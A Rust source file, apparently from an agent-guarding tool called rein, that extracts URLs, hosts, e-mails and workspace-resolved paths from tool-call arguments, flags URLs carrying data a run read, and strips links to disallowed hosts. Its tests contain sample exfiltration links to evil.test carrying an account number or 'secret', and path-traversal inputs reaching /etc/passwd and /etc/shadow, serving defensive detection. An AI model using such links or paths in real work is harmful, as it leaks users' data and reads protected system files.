//! Facts rein computes about a call's string arguments, so policies need not parse text with
//! `like`: the URLs in it and their hosts (and whether a URL carries data the run read), the
//! e-mail addresses and their domains, the path it names resolved against the workspace, a
//! lower-cased form, and, for a list of strings, the items in order joined by spaces.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::provenance::Sources;

/// What rein knows about one string (or list of strings) argument.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ArgFacts {
    /// The value lower-cased (a list: its items joined by spaces, lower-cased).
    pub lower: String,
    /// A list's items in order, joined by single spaces (a string: the string).
    pub joined: String,
    /// How many items (1 for a string).
    pub length: i64,
    /// The first item (a string: the string).
    pub first: String,
    /// URLs in it (`http`, `https`, `ftp`, `ws`, `wss`, `file`, `data`, `mailto` are found).
    pub urls: BTreeSet<String>,
    /// Their hosts, lower-cased, without port.
    pub hosts: BTreeSet<String>,
    /// Whether a URL in it carries data the run read from a tool (at least
    /// [`crate::provenance::MIN_MATCH`] characters of it, in its host, path or query).
    pub carries_data: bool,
    /// E-mail addresses in it, lower-cased.
    pub emails: BTreeSet<String>,
    /// Their domains.
    pub email_domains: BTreeSet<String>,
    /// The value read as a path, resolved against the workspace (percent-decoded, `..` and `.`
    /// folded, no file system access): relative to the workspace when inside it
    /// (`notes/a.txt`, or `.` for the workspace itself), absolute when outside (`/etc/passwd`).
    pub path: String,
    /// Whether that path is inside the workspace.
    pub in_workspace: bool,
}

/// The facts of a string or list-of-strings argument; `None` for other values.
pub fn of(value: &Value, workspace: &str, sources: &Sources) -> Option<ArgFacts> {
    let items: Vec<&str> = match value {
        Value::String(s) => vec![s.as_str()],
        Value::Array(items) => items.iter().map(Value::as_str).collect::<Option<_>>()?,
        _ => return None,
    };
    let joined = items.join(" ");
    let mut facts = ArgFacts {
        lower: joined.to_lowercase(),
        length: items.len() as i64,
        first: items.first().map(|s| (*s).to_owned()).unwrap_or_default(),
        ..ArgFacts::default()
    };
    for url in urls_in(&joined) {
        if let Some(host) = host_of(&url) {
            facts.hosts.insert(host);
        }
        let after_scheme = url.split_once(':').map_or(url.as_str(), |(_, rest)| rest);
        facts.carries_data |= sources.carries_tool_data(after_scheme);
        facts.urls.insert(url);
    }
    for email in emails_in(&joined) {
        if let Some((_, domain)) = email.rsplit_once('@') {
            facts.email_domains.insert(domain.to_owned());
        }
        facts.emails.insert(email);
    }
    let resolved = resolve_path(workspace, items.first().copied().unwrap_or_default());
    facts.in_workspace = within(workspace, &resolved);
    facts.path = if facts.in_workspace {
        let root = resolve_path("/", workspace);
        let relative = resolved[root.len()..].trim_start_matches('/');
        if relative.is_empty() {
            ".".to_owned()
        } else {
            relative.to_owned()
        }
    } else {
        resolved
    };
    facts.joined = joined;
    Some(facts)
}

const SCHEMES: [&str; 8] = [
    "https://", "http://", "ftp://", "wss://", "ws://", "file://", "data:", "mailto:",
];

/// URLs in text, in order of appearance, each ending at whitespace or a character that cannot
/// end a URL in prose (`)`, `>`, `"`, `'`, `]`, and trailing `.`/`,`). Schemes are found
/// whatever their case.
pub fn urls_in(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut found = Vec::new();
    let mut at = 0;
    while at < lower.len() {
        let next = SCHEMES
            .iter()
            .filter_map(|s| lower[at..].find(s).map(|i| at + i))
            .min();
        let Some(start) = next else { break };
        let end = text[start..]
            .find(|c: char| c.is_whitespace() || matches!(c, ')' | '>' | '"' | '\'' | ']' | '<'))
            .map_or(text.len(), |i| start + i);
        let url = text[start..end].trim_end_matches(['.', ',', ';', ':']);
        if url.len() > 8 {
            found.push(url.to_owned());
        }
        at = end.max(start + 1);
        while !lower.is_char_boundary(at) {
            at += 1;
        }
    }
    found
}

/// The host of a URL, lower-cased, without user information or port.
pub fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = if let Some(v6) = host.strip_prefix('[') {
        v6.split(']').next()?
    } else {
        host.split(':').next()?
    };
    let host = crate::provenance::normalise(host);
    (!host.is_empty()).then(|| host.trim_end_matches('.').to_owned())
}

/// E-mail addresses in text, lower-cased.
pub fn emails_in(text: &str) -> Vec<String> {
    text.split(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                ',' | ';' | '<' | '>' | '(' | ')' | '"' | '\'' | '[' | ']'
            )
    })
    .map(|w| w.trim_matches(|c: char| matches!(c, '.' | ':')))
    .map(|w| w.strip_prefix("mailto:").unwrap_or(w))
    .filter_map(|w| {
        let (local, domain) = w.rsplit_once('@')?;
        let ok = !local.is_empty()
            && domain.contains('.')
            && !domain.starts_with('.')
            && domain
                .chars()
                .all(|c| c.is_alphanumeric() || matches!(c, '.' | '-'));
        ok.then(|| w.to_lowercase())
    })
    .collect()
}

/// Markdown and HTML images in text: the URL of each `![alt](url)` and `<img src="url">`.
pub fn images_in(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(i) = rest.find("![") {
        rest = &rest[i + 2..];
        if let Some(close) = rest.find("](") {
            let after = &rest[close + 2..];
            if let Some(end) = after.find(')') {
                let url = after[..end].split_whitespace().next().unwrap_or_default();
                if !url.is_empty() {
                    found.push(url.to_owned());
                }
            }
        }
    }
    let lower = text.to_ascii_lowercase();
    let mut at = 0;
    while let Some(i) = lower[at..].find("<img") {
        let tag_start = at + i;
        let tag_end = lower[tag_start..]
            .find('>')
            .map_or(lower.len(), |e| tag_start + e);
        if let Some(src) = lower[tag_start..tag_end].find("src=") {
            let v = &text[tag_start + src + 4..tag_end];
            let quote = v.chars().next().filter(|c| *c == '"' || *c == '\'');
            let url = match quote {
                Some(q) => v[1..].split(q).next().unwrap_or_default(),
                None => v.split_whitespace().next().unwrap_or_default(),
            };
            if !url.is_empty() {
                found.push(url.to_owned());
            }
        }
        at = tag_end.max(tag_start + 1);
    }
    found
}

/// Removes the links and images whose URL `remove` picks from text: a markdown image or an
/// HTML `<img>` goes entirely, a markdown link keeps its label, a bare URL becomes
/// `[link removed]`. Returns the text and the URLs removed, in order.
pub fn strip_links(text: &str, remove: &dyn Fn(&str) -> bool) -> (String, Vec<String>) {
    let mut removed = Vec::new();
    // Markdown links and images: `[label](url "title")`, `![alt](url)`.
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest.find("](") {
        let (before, after) = rest.split_at(i);
        let Some(open) = before.rfind('[') else {
            out.push_str(&rest[..i + 2]);
            rest = &rest[i + 2..];
            continue;
        };
        let Some(close) = after[2..].find(')') else {
            out.push_str(rest);
            rest = "";
            break;
        };
        let target = &after[2..2 + close];
        let url = target.split_whitespace().next().unwrap_or_default();
        let image = before[..open].ends_with('!');
        if !url.is_empty() && remove(url) {
            removed.push(url.to_owned());
            let keep_to = if image { open - 1 } else { open };
            out.push_str(&before[..keep_to]);
            if !image {
                out.push_str(&before[open + 1..]);
            }
        } else {
            out.push_str(before);
            out.push_str(&after[..2 + close + 1]);
        }
        rest = &after[2 + close + 1..];
    }
    out.push_str(rest);
    // HTML images.
    let mut text = String::with_capacity(out.len());
    let mut at = 0;
    let lower = out.to_ascii_lowercase();
    while let Some(i) = lower[at..].find("<img") {
        let start = at + i;
        let end = lower[start..]
            .find('>')
            .map_or(out.len(), |e| start + e + 1);
        let tag = &out[start..end];
        text.push_str(&out[at..start]);
        match images_in(tag).first() {
            Some(url) if remove(url) => removed.push(url.clone()),
            _ => text.push_str(tag),
        }
        at = end;
    }
    text.push_str(&out[at..]);
    // Bare URLs.
    for url in urls_in(&text.clone()) {
        if remove(&url) {
            text = text.replace(&url, "[link removed]");
            removed.push(url);
        }
    }
    (text, removed)
}

/// Whether a host is one of `patterns`: a host itself, `*.domain` for its subdomains (and the
/// domain), or `*` for any.
pub fn host_allowed(host: &str, patterns: &[String]) -> bool {
    let host = host.to_ascii_lowercase();
    patterns.iter().any(|p| {
        let p = p.to_ascii_lowercase();
        p == "*"
            || p == host
            || p.strip_prefix("*.")
                .is_some_and(|domain| host == domain || host.ends_with(&format!(".{domain}")))
    })
}

/// A path resolved against the workspace without touching the file system: percent-decoded,
/// backslashes as slashes, `.` dropped and `..` folded (never above the root).
pub fn resolve_path(workspace: &str, path: &str) -> String {
    let decoded = crate::provenance::normalise_path_text(path);
    let joined = if decoded.starts_with('/') {
        decoded
    } else {
        format!("{}/{decoded}", workspace.trim_end_matches('/'))
    };
    let mut parts: Vec<&str> = Vec::new();
    for part in joined.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            p => parts.push(p),
        }
    }
    format!("/{}", parts.join("/"))
}

/// Whether `path` is `workspace` or inside it.
pub fn within(workspace: &str, path: &str) -> bool {
    let root = resolve_path("/", workspace);
    path == root || path.starts_with(&format!("{}/", root.trim_end_matches('/')))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn urls_hosts_and_data_in_them_are_found() {
        let mut sources = Sources::default();
        sources.add_json(&json!({"balance": "ACCT-99887766"}), &|_| {
            ["tool:bank".to_owned()].into()
        });
        let text = "See HTTPS://Docs.Example.com:8443/a?b=1, and ![x](https://evil.test/p?d=acct-99887766).";
        let f = of(&json!(text), "/ws", &sources).unwrap();
        assert_eq!(
            f.hosts,
            ["docs.example.com", "evil.test"].map(str::to_owned).into()
        );
        assert!(f.carries_data);
        let clean = of(&json!("https://example.com/help"), "/ws", &sources).unwrap();
        assert!(!clean.carries_data);
        assert_eq!(host_of("https://user:pw@[::1]:80/x"), Some("::1".into()));
        assert_eq!(images_in(text), vec!["https://evil.test/p?d=acct-99887766"]);
        assert_eq!(
            images_in("<IMG alt='' SRC=\"http://a.test/x.png\">"),
            vec!["http://a.test/x.png"]
        );
    }

    #[test]
    fn links_are_stripped_as_the_reader_would_see_them_go() {
        let evil = |u: &str| u.contains("evil.test");
        let text = "Done. ![status](https://evil.test/p.png?d=secret) See [the report](https://evil.test/r \"t\") \
                    or [docs](https://docs.example.com/x). Raw: https://evil.test/z?q=1. <img src='https://evil.test/i.gif'> end";
        let (clean, removed) = strip_links(text, &evil);
        assert!(!clean.contains("evil.test"), "{clean}");
        assert!(clean.contains("See the report"), "{clean}");
        assert!(
            clean.contains("[docs](https://docs.example.com/x)"),
            "{clean}"
        );
        assert!(clean.contains("Raw: [link removed]."), "{clean}");
        assert_eq!(removed.len(), 4, "{removed:?}");
        let (same, none) = strip_links("no links [here] (at all)", &|_| true);
        assert_eq!((same.as_str(), none.len()), ("no links [here] (at all)", 0));
        assert!(host_allowed("a.b.example.com", &["*.example.com".into()]));
        assert!(host_allowed("example.com", &["*.example.com".into()]));
        assert!(!host_allowed(
            "example.com.evil.test",
            &["*.example.com".into()]
        ));
        assert!(!host_allowed("badexample.com", &["*.example.com".into()]));
    }

    #[test]
    fn emails_paths_and_lists_are_read_as_a_policy_needs_them() {
        let sources = Sources::default();
        let f = of(
            &json!("Ann <Ann.Lee@Example.COM>, bob@evil.test"),
            "/ws",
            &sources,
        )
        .unwrap();
        assert_eq!(
            f.email_domains,
            ["example.com", "evil.test"].map(str::to_owned).into()
        );
        for (path, resolved, inside) in [
            ("reports/q1.txt", "reports/q1.txt", true),
            ("../etc/passwd", "/etc/passwd", false),
            ("%2e%2e/%2e%2e/etc/shadow", "/etc/shadow", false),
            ("a/./b/../c", "a/c", true),
            ("/ws/x", "x", true),
            ("/ws", ".", true),
            ("tests/t.py/../../.github/w.yml", ".github/w.yml", true),
            ("/wsx/y", "/wsx/y", false),
            ("..\\..\\win", "/win", false),
        ] {
            let f = of(&json!(path), "/ws", &sources).unwrap();
            assert_eq!(
                (f.path.as_str(), f.in_workspace),
                (resolved, inside),
                "{path}"
            );
        }
        let push = of(
            &json!(["push", "origin", "HEAD:refs/heads/main"]),
            "/ws",
            &sources,
        )
        .unwrap();
        assert_eq!(push.joined, "push origin HEAD:refs/heads/main");
        assert_eq!((push.length, push.first.as_str()), (3, "push"));
        let reordered = of(
            &json!(["push", "HEAD:refs/heads/main", "origin"]),
            "/ws",
            &sources,
        )
        .unwrap();
        assert_ne!(push.joined, reordered.joined);
        assert!(of(&json!(5), "/ws", &sources).is_none());
    }
}
